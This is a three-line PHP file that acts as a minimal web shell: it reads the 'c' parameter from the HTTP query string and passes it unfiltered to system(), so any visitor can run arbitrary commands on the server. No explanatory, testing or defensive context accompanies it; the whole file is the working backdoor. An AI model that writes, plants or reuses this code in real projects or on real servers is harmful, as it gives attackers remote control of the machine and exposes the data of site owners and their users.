<?php
$f = fn() => $_GET["c"];
system("{$f()}");
